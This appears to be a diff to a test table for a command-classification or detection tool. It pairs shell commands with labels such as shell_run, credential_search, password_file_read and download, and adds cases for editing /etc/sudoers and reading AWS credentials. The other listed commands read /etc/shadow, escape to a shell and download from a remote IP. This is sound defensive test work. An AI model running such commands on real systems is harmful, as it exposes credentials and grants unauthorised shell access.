@@ -145,6 +145,8 @@ TEST(Actions, OfBorrowedPrograms) {
       {"winget list", ""},
       {"vim -c ':!/bin/sh'", "shell_run"},
       {"vim notes.txt", ""},
+      {"vim /etc/sudoers", ""},
+      {"cat /root/.aws/credentials", "credential_search"},
       {"kubectl exec -it pod -- cat /etc/shadow", "password_file_read"},
       {"script -qc /bin/bash /dev/null", "shell_run"},
       {"lwp-download http://203.0.113.9/a /tmp/a", "download"},
